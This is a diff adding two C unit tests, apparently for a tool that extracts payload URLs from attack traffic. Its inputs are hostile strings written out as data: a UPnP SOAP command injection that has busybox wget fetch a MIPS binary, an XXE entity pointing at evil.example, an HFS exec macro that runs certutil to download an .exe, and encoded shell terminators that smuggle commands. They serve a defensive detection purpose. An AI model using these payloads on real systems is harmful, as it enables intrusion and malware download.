@@ -400,6 +400,51 @@ static void test_literal_edges(void **state)
     assert_string_equal(R.h[2].url, "https://1.2.3.4/n");
 }
 
+/* A URL naming an XML vocabulary (namespace, SOAP encoding, schema, XML-DSig
+ * algorithm) is not pointed at; the payload URL beside it is. */
+static void test_xml_vocabulary(void **state)
+{
+    (void)state;
+    expect1("<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
+            "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade "
+            "xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget "
+            "-g 1.2.3.4 -l /tmp/mips -r /mips)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>",
+            "tftp://1.2.3.4/mips", "busybox-wget-g", "plain");
+    expect_none("<x xmlns=\"http://www.w3.org/1999/xhtml\" XMLNS:xsi = 'http://www.w3.org/2001/XMLSchema-instance' "
+                "xsi:schemaLocation=\"http://example.net/ns http://example.net/ns.xsd\">"
+                "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"/>"
+                "<xsl:stylesheet noNamespaceSchemaLocation=\"http://www.w3.org/x.xsd\"/></x>");
+    expect_none("{\"xml\":\"<a xmlns=\\\"http://www.w3.org/1999/xhtml\\\"/>\"}");     /* JSON-escaped quotes */
+    expect_none("<wsse:Password Type=\"http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0"
+                "#PasswordDigest\">x</wsse:Password>");
+    /* Other attributes and element text still count: an XXE's DTD, a href, an RFI value. */
+    expect1("<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/dtd.xml\"> %x;]>",
+            "http://evil.example/dtd.xml", "url", "plain");
+    expect1("<a href=\"http://evil.example/h\" xmlns=\"http://www.w3.org/1999/xhtml\">",
+            "http://evil.example/h", "url", "plain");
+    expect1("<NewInternalClient xmlns:x=\"urn:x\">http://evil.example/t</NewInternalClient>",
+            "http://evil.example/t", "url", "plain");
+    expect1("page=xmlns&u=http://evil.example/r", "http://evil.example/r", "url", "plain");
+}
+
+/* An encoded shell or quote character after a literal URL ends it, as an
+ * encoded blank does; an encoded '&' stays inside (the URL's own query). */
+static void test_encoded_terminators(void **state)
+{
+    (void)state;
+    static const char *const tails[] = { "%3bsh", "%3Bsh", "%7Csh", "%60", "%00.zip", "%5cu0022", "%22x", "%27x",
+                                         "%3Cx", "%3ex" };
+    for (size_t i = 0; i < sizeof(tails) / sizeof(tails[0]); i++) {
+        char text[128];
+        snprintf(text, sizeof(text), "GET /cgi?x=http://1.2.3.4/iv%s HTTP/1.1", tails[i]);
+        expect1(text, "http://1.2.3.4/iv", "url", "plain");
+    }
+    /* Template braces: HFS's "{.exec|URL.}" macros. */
+    expect1("search=%00{.exec|certutil -f -urlcache http://1.2.3.4/s.exe.}{.?n", "http://1.2.3.4/s.exe", "certutil",
+            "plain");
+    expect("GET /r?u=http://1.2.3.4/x.php?a=1%26b=2 HTTP/1.1", "http://1.2.3.4/x.php?a=1%26b=2", "url", "plain");
+}
+
 static void test_precedence_order(void **state)
 {
     (void)state;
@@ -555,6 +600,8 @@ int main(void)
         cmocka_unit_test(test_nested_quotes),
         cmocka_unit_test(test_reject),
         cmocka_unit_test(test_literal_edges),
+        cmocka_unit_test(test_xml_vocabulary),
+        cmocka_unit_test(test_encoded_terminators),
         cmocka_unit_test(test_precedence_order),
         cmocka_unit_test(test_normalize),
         cmocka_unit_test(test_bounds_hostile),
